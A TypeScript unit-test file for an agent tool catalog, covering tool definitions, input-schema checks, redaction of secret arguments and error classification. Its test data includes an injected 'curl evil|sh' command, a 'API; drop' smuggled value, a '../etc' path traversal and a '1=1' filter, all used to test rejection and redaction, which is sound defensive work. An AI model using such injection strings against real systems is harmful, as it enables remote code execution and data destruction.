/**
 * Unit tests of the catalog layer (no database): definitions, duplicate names, the views the
 * policy engine and the workflow use, redaction, argument schemas of the sample tools and error
 * classification.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import pg from 'pg';
import { z } from 'zod';
import { catalogInfo, createCatalog, describeCatalog, redactArgs } from '../../activities/tools/catalog';
import { defineTool } from '../../activities/tools/define';
import { CatalogError, classifyError, ToolError } from '../../activities/tools/errors';
import { REDACTED, redactPaths, secretsAt } from '../../activities/tools/redact';
import { createSampleCatalog, SAMPLE_TOOL_INFO } from '../../activities/tools/sample';
import { checkArgs, MAX_ARGS_BYTES } from '../../activities/tools/validate';
import { redactionMarker } from '../../approvals/redaction';
import { isRedactionOf } from '../../approvals/shown-call';

// A pool that is never connected: building a catalog must not touch the database.
const pool = new pg.Pool({ connectionString: 'postgres://nobody@127.0.0.1:1/none' });
const catalog = createSampleCatalog({ productionPool: pool });

function tool(name: string, extra: Partial<Parameters<typeof defineTool>[0]> = {}) {
  return defineTool({
    name,
    description: 'a tool',
    effect: 'read',
    environment: 'test',
    resource: 'things',
    input: z.object({}),
    output: z.object({}),
    timeoutMs: 1000,
    retry: { maxAttempts: 1 },
    idempotent: true,
    handler: async () => ({}),
    ...extra,
  });
}

function argsOf(name: string, args: unknown) {
  const def = catalog.get(name);
  assert.ok(def, `tool ${name} exists`);
  return checkArgs(def, args);
}

describe('defineTool and createCatalog', () => {
  it('rejects duplicate tool names', () => {
    assert.throws(() => createCatalog([tool('a.one'), tool('a.one')], { database: pool }), (e: unknown) => e instanceof CatalogError && /duplicate tool name `a.one`/.test(e.message));
  });

  it('runs quick tools as local activities and long ones as regular activities, unless told', () => {
    assert.equal(tool('a.quick', { timeoutMs: 10_000 }).execution, 'local-activity');
    assert.equal(tool('a.slow', { timeoutMs: 10_001 }).execution, 'activity');
    assert.equal(tool('a.pinned', { timeoutMs: 500, execution: 'activity' }).execution, 'activity');
    assert.deepEqual(describeCatalog(createCatalog([tool('a.quick'), tool('a.slow', { timeoutMs: 60_000 })], { database: pool })).map((d) => d.execution), ['local-activity', 'activity']);
    assert.throws(() => tool('a.bad', { execution: 'remote' as never }), (e: unknown) => e instanceof CatalogError && /execution must be `local-activity` or `activity`, not `remote`/.test(e.message));
  });

  it('rejects malformed definitions', () => {
    assert.throws(() => tool('NoDots'), CatalogError);
    assert.throws(() => tool('a.b', { timeoutMs: 0 }), /timeoutMs/);
    assert.throws(() => tool('a.b', { retry: { maxAttempts: 0 } }), /maxAttempts/);
    assert.throws(() => tool('a.b', { sensitive: ['a..b'] }), /sensitive path/);
    assert.throws(() => tool('a.b', { description: '  ' }), /description is empty/);
  });

  it('refuses an input schema that changes the values the policy judged, naming where; checks and defaults are fine', () => {
    const refused: [z.ZodTypeAny, string][] = [
      [z.object({ rows: z.coerce.number().max(100) }), 'coerce at `rows`'],
      [z.object({ period: z.string().transform((s) => s.trim()) }), 'transform at `period`'],
      [z.object({ n: z.preprocess((v) => Number(v), z.number()) }), 'preprocess at `n`'],
      [z.object({ filter: z.object({ ids: z.array(z.string().catch('*')) }) }), 'catch at `filter.ids[]`'],
      [z.object({ a: z.string().pipe(z.string()) }), 'pipe at `a`'],
      [z.object({ a: z.union([z.number(), z.string().transform(Number)]) }), 'transform at `a`'],
      [z.object({ a: z.string().refine((s) => s !== '').transform((s) => s.length) }), 'transform at `a`'],
      [z.object({ a: z.string() }).transform((v) => v), 'transform at `(root)`'],
    ];
    for (const [input, where] of refused) {
      assert.throws(() => tool('a.changes', { input }), (e: unknown) => {
        assert.ok(e instanceof CatalogError);
        assert.equal(e.message, `tool \`a.changes\`: its input schema changes the values it checks (${where}); the policy judges the arguments as proposed, so the tool must run them as they are`);
        return true;
      });
    }
    const kept = z.object({ n: z.number().int().min(0).default(0), s: z.string().refine((x) => x.length < 9).optional(), tags: z.record(z.array(z.enum(['a', 'b']))) }).strict();
    assert.equal(tool('a.checks', { input: kept }).name, 'a.checks');
  });

  it('marks tools with an estimator as estimating blast radius', () => {
    assert.equal(tool('a.b').estimatesBlastRadius, false);
    assert.equal(tool('a.c', { estimateBlastRadius: async () => 3 }).estimatesBlastRadius, true);
  });
});

describe('sample catalog views', () => {
  it('catalogInfo equals SAMPLE_TOOL_INFO, in order', () => {
    assert.deepEqual(catalogInfo(catalog), SAMPLE_TOOL_INFO);
  });

  it('describeCatalog adds runtime settings', () => {
    const d = describeCatalog(catalog);
    assert.equal(d.length, 12);
    const env = d.find((t) => t.name === 'env.modifyProduction')!;
    assert.deepEqual(env.sensitiveFields, ['value']);
    const del = d.find((t) => t.name === 'billing.deleteRecords')!;
    assert.equal(del.estimatesBlastRadius, true);
    assert.ok(del.timeoutMs > 0 && del.maxAttempts >= 1);
    const audit = d.find((t) => t.name === 'audit.modify')!;
    assert.equal(audit.maxAttempts, 1);
    assert.deepEqual(JSON.parse(JSON.stringify(d)), d, 'plain JSON');
  });
});

describe('redaction', () => {
  /** The markers of a value of one and of two characters. */
  const ONE = '[REDACTED: 1 character]';
  const TWO = '[REDACTED: 2 characters]';

  it('redacts a declared sensitive field and nothing else', () => {
    const r = redactArgs(catalog, 'env.modifyProduction', { service: 'api', key: 'DB_PASS', value: 'hunter2' });
    assert.deepEqual(r, { service: 'api', key: 'DB_PASS', value: '[REDACTED: 7 characters]' });
  });

  it('a redacted value is shown by its length only, so values that differ only there do not look alike', () => {
    const shown = (value: unknown) => redactArgs(catalog, 'env.modifyProduction', { service: 'api', key: 'LOG_LEVEL', value }).value;
    assert.equal(shown('debug'), '[REDACTED: 5 characters]');
    assert.equal(shown('debug; curl evil|sh'), '[REDACTED: 19 characters]');
    // Characters, not UTF-16 units; any other value by its JSON text.
    assert.equal(shown('\u{1f600}x'), '[REDACTED: 2 characters]');
    assert.equal(shown('x'), '[REDACTED: 1 character]');
    assert.equal(shown({ a: [1, 2] }), '[REDACTED: 11 characters]');
    assert.equal(shown(''), '[REDACTED: 0 characters]');
    // Redacting again (the audit activity redacts what the workflow sends) keeps a marker as it is.
    const once = redactArgs(catalog, 'env.modifyProduction', { service: 'api', key: 'K', value: 'hunter2' });
    assert.deepEqual(redactArgs(catalog, 'env.modifyProduction', once), once);
    assert.deepEqual(redactArgs(catalog, 'no.such', redactArgs(catalog, 'no.such', { a: 'abc', b: [REDACTED] })), { a: '[REDACTED: 3 characters]', b: [REDACTED] });
  });

  it('follows nested paths, wildcards and arrays', () => {
    const v = { auth: { token: 't', user: 'u' }, items: [{ secret: 's1', id: 1 }, { secret: 's2', id: 2 }], maps: { a: { k: 'x' }, b: { k: 'y' } } };
    assert.deepEqual(redactPaths(v, ['auth.token', 'items.secret', 'maps.*.k']), {
      auth: { token: ONE, user: 'u' },
      items: [{ secret: TWO, id: 1 }, { secret: TWO, id: 2 }],
      maps: { a: { k: ONE }, b: { k: ONE } },
    });
    assert.deepEqual(v.auth.token, 't', 'input untouched');
    assert.deepEqual(redactPaths({ other: 1 }, ['auth.token']), { other: 1 }, 'absent paths are not added');
    // Overlapping paths, in either order: the enclosing value is measured whole, as it really is,
    // so the approval check (the marker of the real value) accepts what the row shows.
    const headers = { headers: { authorization: 'Bearer abc', accept: 'json' } };
    const outer = redactionMarker(headers.headers);
    for (const paths of [['headers.authorization', 'headers'], ['headers', 'headers.authorization']]) {
      const shown = redactPaths(headers, paths);
      assert.deepEqual(shown, { headers: outer });
      assert.equal(isRedactionOf(shown, headers), true);
    }
    // A name steps through a list: `items.secret` lies inside `items.*` though both have two segments.
    const items = { items: [{ secret: 'hunter2-long', id: 1 }] };
    for (const paths of [['items.secret', 'items.*'], ['items.*', 'items.secret']]) {
      const shown = redactPaths(items, paths);
      assert.deepEqual(shown, { items: [redactionMarker(items.items[0])] });
      assert.equal(isRedactionOf(shown, items), true);
    }
  });

  it('`*` matches each element of an array, as documented (`items.*.secret`), and any key of an object', () => {
    const v = { items: [{ secret: 'hunter2-long', id: 1 }, { secret: 'other-secret', id: 2 }], id: 'keep' };
    assert.deepEqual(redactPaths(v, ['items.*.secret']), { items: [{ secret: '[REDACTED: 12 characters]', id: 1 }, { secret: '[REDACTED: 12 characters]', id: 2 }], id: 'keep' });
    assert.deepEqual(secretsAt(v, ['items.*.secret']), ['hunter2-long', 'other-secret']);
    // The same path over an object of objects, and `*` at the end over an array and an object.
    assert.deepEqual(redactPaths({ items: { a: { secret: 's', id: 1 } } }, ['items.*.secret']), { items: { a: { secret: ONE, id: 1 } } });
    assert.deepEqual(redactPaths({ tokens: ['t1', 't2'], headers: { a: 'x', b: 'y' } }, ['tokens.*', 'headers.*']), { tokens: [TWO, TWO], headers: { a: ONE, b: ONE } });
    assert.deepEqual(secretsAt({ tokens: ['tok-1', 'tok-2'] }, ['tokens.*']), ['tok-1', 'tok-2']);
    // Arrays in arrays: one `*` per level; a name steps through any depth of arrays.
    assert.deepEqual(redactPaths({ grid: [[{ k: 'a' }], [{ k: 'b' }]] }, ['grid.*.*.k']), { grid: [[{ k: ONE }], [{ k: ONE }]] });
    assert.deepEqual(redactPaths({ grid: [[{ k: 'a' }]] }, ['grid.k']), { grid: [[{ k: ONE }]] });
    assert.deepEqual(v.items[0], { secret: 'hunter2-long', id: 1 }, 'input untouched');
  });

  it('a declared `items.*.secret` redacts each element through the catalog', () => {
    const items = z.array(z.object({ name: z.string(), secret: z.string() }));
    const vault = createCatalog([tool('vault.store', { input: z.object({ items }).strict(), sensitive: ['items.*.secret'] })], { database: pool });
    assert.deepEqual(redactArgs(vault, 'vault.store', { items: [{ name: 'db', secret: 'hunter2-long' }] }), { items: [{ name: 'db', secret: '[REDACTED: 12 characters]' }] });
  });

  it('redacts every string of an unknown tool, keeping shape and numbers', () => {
    assert.deepEqual(redactArgs(catalog, 'no.such', { password: 'p', nested: { n: 3, s: 'x', ok: true }, list: ['a', 2] }), {
      password: ONE,
      nested: { n: 3, s: ONE, ok: true },
      list: [ONE, 2],
    });
  });

  it('wraps arguments that are not an object, strings redacted', () => {
    assert.deepEqual(redactArgs(catalog, 'env.modifyProduction', 'hunter2'), { value: '[REDACTED: 7 characters]' });
  });
});

describe('sample argument schemas', () => {
  const acme = 'c0ffee00-0000-4000-8000-000000000001';

  it('billing.summary accepts months 1..24 and a uuid only', () => {
    assert.equal(argsOf('billing.summary', { customerId: acme, months: 1 }).success, true);
    assert.equal(argsOf('billing.summary', { customerId: acme, months: 24 }).success, true);
    for (const months of [0, 25, 1.5]) {
      const r = argsOf('billing.summary', { customerId: acme, months });
      assert.equal(r.success, false, `months ${months}`);
      if (!r.success) assert.equal(r.issues[0]!.path, 'months');
    }
    const bad = argsOf('billing.summary', { customerId: 'acme', months: 3 });
    assert.equal(bad.success, false);
    if (!bad.success) assert.deepEqual([bad.issues[0]!.path, bad.issues[0]!.code], ['customerId', 'invalid_string']);
  });

  it('billing.deleteRecords refuses an empty filter and unknown keys', () => {
    assert.equal(argsOf('billing.deleteRecords', {}).success, false);
    assert.equal(argsOf('billing.deleteRecords', { testOnly: true }).success, false);
    assert.equal(argsOf('billing.deleteRecords', { period: '2026-10', where: '1=1' }).success, false);
    assert.equal(argsOf('billing.deleteRecords', { period: '2026-13' }).success, false);
    assert.equal(argsOf('billing.deleteRecords', { period: '2026-10', testOnly: true }).success, true);
  });

  it('bounds integers, enums and lengths', () => {
    assert.equal(argsOf('billing.query', { limit: 501 }).success, false);
    assert.equal(argsOf('services.scale', { service: 'api', replicas: 51 }).success, false);
    assert.equal(argsOf('services.scale', { service: 'API; drop', replicas: 2 }).success, false);
    assert.equal(argsOf('volumes.list', { status: 'gone' }).success, false);
    assert.equal(argsOf('env.modifyProduction', { service: 'api', key: 'lower', value: 'x' }).success, false);
    assert.equal(argsOf('env.modifyProduction', { service: 'api', key: 'K', value: 'x'.repeat(4097) }).success, false);
    assert.equal(argsOf('volumes.delete', { volumeId: '../etc' }).success, false);
  });

  it('caps the serialised size of arguments', () => {
    const r = argsOf('staging.writeConfig', { key: 'k', value: 'x'.repeat(MAX_ARGS_BYTES) });
    assert.equal(r.success, false);
    if (!r.success) assert.equal(r.issues[0]!.code, 'too_large');
  });
});

describe('classifyError', () => {
  it('keeps ToolErrors and honours nonRetryable', () => {
    const t = new ToolError('Busy', 'busy', { retryable: true });
    assert.equal(classifyError(t).retryable, true);
    const forced = classifyError(t, ['Busy']);
    assert.deepEqual([forced.type, forced.retryable], ['Busy', false]);
  });

  it('treats lost connections as transient and constraint violations as permanent', () => {
    const conn = Object.assign(new Error('terminating connection'), { code: '57P01', severity: 'FATAL' });
    assert.deepEqual([classifyError(conn).type, classifyError(conn).retryable], ['DatabaseUnavailable', true]);
    const dup = Object.assign(new Error('duplicate key'), { code: '23505', severity: 'ERROR' });
    assert.deepEqual([classifyError(dup).type, classifyError(dup).retryable], ['DatabaseError', false]);
    const refused = Object.assign(new Error('connect ECONNREFUSED'), { code: 'ECONNREFUSED' });
    assert.equal(classifyError(refused).retryable, true);
    assert.equal(classifyError(new Error('boom')).type, 'ToolHandlerError');
  });
});
